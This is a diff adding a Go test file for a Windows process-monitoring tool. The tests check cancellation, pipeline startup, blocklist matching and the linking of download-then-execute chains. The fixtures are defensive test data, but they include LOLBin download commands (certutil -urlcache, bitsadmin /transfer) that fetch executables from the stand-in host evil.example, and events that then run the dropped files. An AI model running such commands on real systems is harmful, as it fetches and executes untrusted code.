@@ -0,0 +1,302 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"runtime"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+// queuedSource replays the events queued on its channel until it is closed
+type queuedSource struct {
+	queued <-chan ProcessEvent
+}
+
+func (s queuedSource) Name() string { return "queued" }
+
+func (s queuedSource) Start(ctx context.Context, events chan<- ProcessEvent) error {
+	for event := range s.queued {
+		if !sendEvent(ctx, events, event) {
+			return nil
+		}
+	}
+	return nil
+}
+
+// floodSource sends events as fast as they are taken until cancelled,
+// counting its runs that returned
+type floodSource struct {
+	stopped *atomic.Int32
+}
+
+func (s floodSource) Name() string { return "flood" }
+
+func (s floodSource) Start(ctx context.Context, events chan<- ProcessEvent) error {
+	defer s.stopped.Add(1)
+	for pid := uint32(1); sendEvent(ctx, events, ProcessEvent{ProcessID: pid, Timestamp: time.Now(),
+		ExecutablePath: `C:\Windows\System32\notepad.exe`, CommandLine: "notepad.exe"}); pid++ {
+	}
+	return nil
+}
+
+func TestMonitorStartStop(t *testing.T) {
+	resetEvents(t)
+	before := runtime.NumGoroutine()
+	var stopped atomic.Int32
+	const cycles = 20
+	for i := 0; i < cycles; i++ {
+		ctx, cancel := context.WithCancel(context.Background())
+		done := make(chan struct{})
+		go func() {
+			defer close(done)
+			monitorProcesses(ctx, []EventSource{floodSource{&stopped}, floodSource{&stopped}})
+		}()
+		time.Sleep(5 * time.Millisecond)
+		cancel()
+		select {
+		case <-done:
+		case <-time.After(5 * time.Second):
+			t.Fatalf("cycle %d: monitoring did not stop after cancellation", i)
+		}
+	}
+	if got := stopped.Load(); got != 2*cycles {
+		t.Errorf("%d sources stopped, want %d", got, 2*cycles)
+	}
+
+	// Every worker and source goroutine has exited
+	deadline := time.Now().Add(5 * time.Second)
+	for runtime.NumGoroutine() > before && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+	if after := runtime.NumGoroutine(); after > before {
+		t.Errorf("%d goroutines after the cycles, %d before", after, before)
+	}
+}
+
+// TestPipelineStartup starts the pipeline with events already arriving and
+// the rules reloading throughout. Run under -race it shows detection only
+// reads the rules, alert sinks and stores after they are set up.
+func TestPipelineStartup(t *testing.T) {
+	var alerts atomic.Int32
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		alerts.Add(1)
+	}))
+	defer server.Close()
+	// A slow blocklist feed holds the setup up long enough for events
+	// detected early to show
+	feed := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		time.Sleep(200 * time.Millisecond)
+		fmt.Fprintln(w, "evil.example")
+	}))
+	defer feed.Close()
+
+	rulesPath := writeRulesFile(t, RulesFile{LOLBins: []LOLBin{
+		{Name: "notepad.exe", SuspiciousArgs: []string{"/p"}},
+	}})
+	withConfig(t, func(c *Config) {
+		c.RulesPath = rulesPath
+		c.WatchRules = false
+		c.ConnectionWindow = 0
+		c.Baseline.Enabled = true
+		c.Alerts.WebhookURL = server.URL
+		c.Alerts.WarmUp = 0
+		c.Alerts.Cooldown = 0
+		c.Blocklist = BlocklistConfig{URL: feed.URL}
+	})
+	resetEvents(t)
+	resetAlerting(t)
+	t.Cleanup(func() {
+		seenExecutables, baselines, alertSinks = nil, nil, nil
+		activeBlocklist.Store(nil)
+	})
+
+	// A detector that checks the state set up before monitoring starts
+	var early atomic.Int32
+	withDetectors(t, append(append([]Detector{}, detectors...), detectorFunc{"setup_probe",
+		func(ctx *DetectionContext, event *ProcessEvent) {
+			if len(alertSinks) == 0 || activeBlocklist.Load() == nil || seenExecutables == nil || baselines == nil {
+				early.Add(1)
+			}
+		}}))
+
+	// The events are sent before and while the pipeline is set up
+	const total = 200
+	queued := make(chan ProcessEvent, total)
+	start := time.Now()
+	go func() {
+		defer close(queued)
+		for i := 0; i < total; i++ {
+			event := ProcessEvent{
+				Timestamp:      start.Add(time.Duration(i) * time.Millisecond),
+				ProcessID:      uint32(1000 + i),
+				ExecutablePath: `C:\Windows\System32\notepad.exe`,
+				CommandLine:    `notepad.exe C:\Users\alice\notes.txt`,
+			}
+			if i%2 == 0 {
+				event.ExecutablePath = `C:\Windows\System32\certutil.exe`
+				event.CommandLine = fmt.Sprintf(`certutil.exe -urlcache -split -f http://evil.example/%d.exe`, i)
+			}
+			queued <- event
+		}
+	}()
+
+	// Rules are reloaded for as long as events are processed
+	stopReloads := make(chan struct{})
+	var reloads sync.WaitGroup
+	reloads.Add(1)
+	go func() {
+		defer reloads.Done()
+		for {
+			select {
+			case <-stopReloads:
+				return
+			default:
+			}
+			if _, err := reloadRules(); err != nil {
+				t.Errorf("reloadRules() = %v", err)
+				return
+			}
+		}
+	}()
+
+	p := startPipeline([]EventSource{queuedSource{queued: queued}})
+	select {
+	case <-p.monitorDone:
+	case <-time.After(30 * time.Second):
+		t.Fatal("the pipeline did not finish the queued events")
+	}
+	close(stopReloads)
+	reloads.Wait()
+	p.stop()
+
+	if n := early.Load(); n > 0 {
+		t.Errorf("%d events detected before the pipeline was set up", n)
+	}
+	eventsMutex.RLock()
+	stored := len(processEvents)
+	eventsMutex.RUnlock()
+	if stored != total {
+		t.Errorf("%d events stored, want %d", stored, total)
+	}
+	if _, ok := currentRules().LOLBins["notepad.exe"]; !ok {
+		t.Error("the reloaded rules are not active")
+	}
+	if alerts.Load() == 0 {
+		t.Error("no alert was delivered to the webhook")
+	}
+	if event, ok := findStoredProcess(1000, start); !ok || !hasIndicator(event, "blocklist", "") {
+		t.Errorf("the first event was not matched against the blocklist: %+v", event.Indicators)
+	}
+}
+
+// holdBackDetection delays the detection of the events of one image, so
+// the events arriving after them finish detection first
+func holdBackDetection(t *testing.T, image string, delay time.Duration) {
+	t.Helper()
+	withDetectors(t, append([]Detector{detectorFunc{"hold_back",
+		func(ctx *DetectionContext, event *ProcessEvent) {
+			if ctx.ExecName == image {
+				time.Sleep(delay)
+			}
+		}}}, detectors...))
+}
+
+// runThroughPool detects and records events through a detection pool
+func runThroughPool(workers int, events ...ProcessEvent) {
+	queued := make(chan ProcessEvent, len(events))
+	for _, event := range events {
+		queued <- event
+	}
+	close(queued)
+	newDetectionPool(workers, len(events)).run(queued)
+}
+
+// checkStoredChain checks that the stored events of the processes share a
+// detection chain
+func checkStoredChain(t *testing.T, events ...ProcessEvent) {
+	t.Helper()
+	var chainID string
+	for i, event := range events {
+		stored, ok := findStoredProcess(event.ProcessID, event.Timestamp)
+		if !ok {
+			t.Fatalf("PID %d was not stored", event.ProcessID)
+		}
+		if i == 0 {
+			chainID = stored.ChainID
+		}
+		if chainID == "" || stored.ChainID != chainID || stored.Severity != SeverityCritical {
+			t.Errorf("PID %d is in chain %q at %v, want chain %q at critical (%s)",
+				event.ProcessID, stored.ChainID, stored.Severity, chainID, stored.Reason)
+		}
+	}
+}
+
+func TestPoolLinksChainsOutOfOrder(t *testing.T) {
+	withConfig(t, func(c *Config) { c.ConnectionWindow = 0 })
+	resetEvents(t)
+	resetDroppedFiles(t)
+	// The download is still in detection when its execution is done
+	holdBackDetection(t, "certutil.exe", 200*time.Millisecond)
+
+	start := time.Now()
+	download := ProcessEvent{ProcessID: 6100, Timestamp: start, ExecutablePath: `C:\Windows\System32\certutil.exe`,
+		CommandLine: `certutil.exe -urlcache -split -f http://evil.example/a.exe C:\Users\Public\a.exe`}
+	run := ProcessEvent{ProcessID: 6200, Timestamp: start.Add(time.Millisecond), ExecutablePath: `C:\Users\Public\a.exe`,
+		CommandLine: `C:\Users\Public\a.exe`}
+	runThroughPool(4, download, run)
+	checkStoredChain(t, download, run)
+}
+
+// runPipeline sends events through a started pipeline and stops it once
+// they are recorded
+func runPipeline(t *testing.T, events ...ProcessEvent) {
+	t.Helper()
+	resetAlerting(t)
+	t.Cleanup(func() {
+		seenExecutables, baselines, alertSinks = nil, nil, nil
+		activeBlocklist.Store(nil)
+	})
+	queued := make(chan ProcessEvent, len(events))
+	for _, event := range events {
+		queued <- event
+	}
+	close(queued)
+	p := startPipeline([]EventSource{queuedSource{queued: queued}})
+	select {
+	case <-p.monitorDone:
+	case <-time.After(30 * time.Second):
+		t.Fatal("the pipeline did not finish the queued events")
+	}
+	p.stop()
+}
+
+func TestPipelineLinksDownloadChain(t *testing.T) {
+	withConfig(t, func(c *Config) {
+		c.WatchRules = false
+		c.ConnectionWindow = 0
+		c.DetectionWorkers = 4
+	})
+	resetEvents(t)
+	resetDroppedFiles(t)
+	holdBackDetection(t, "bitsadmin.exe", 200*time.Millisecond)
+
+	start := time.Now()
+	download := ProcessEvent{ProcessID: 6300, Timestamp: start, ExecutablePath: `C:\Windows\System32\bitsadmin.exe`,
+		CommandLine: `bitsadmin.exe /transfer job /download /priority high http://evil.example/b.exe C:\Users\Public\b.exe`}
+	run := ProcessEvent{ProcessID: 6400, Timestamp: start.Add(time.Millisecond), ExecutablePath: `C:\Users\Public\b.exe`,
+		CommandLine: `C:\Users\Public\b.exe`, ParentID: 6300}
+	runPipeline(t, download, run)
+	checkStoredChain(t, download, run)
+
+	for _, event := range []ProcessEvent{download, run} {
+		stored, _ := findStoredProcess(event.ProcessID, event.Timestamp)
+		if !hasIndicator(stored, "chain", stored.ChainID) {
+			t.Errorf("PID %d has no chain indicator: %+v", event.ProcessID, stored.Indicators)
+		}
+	}
+}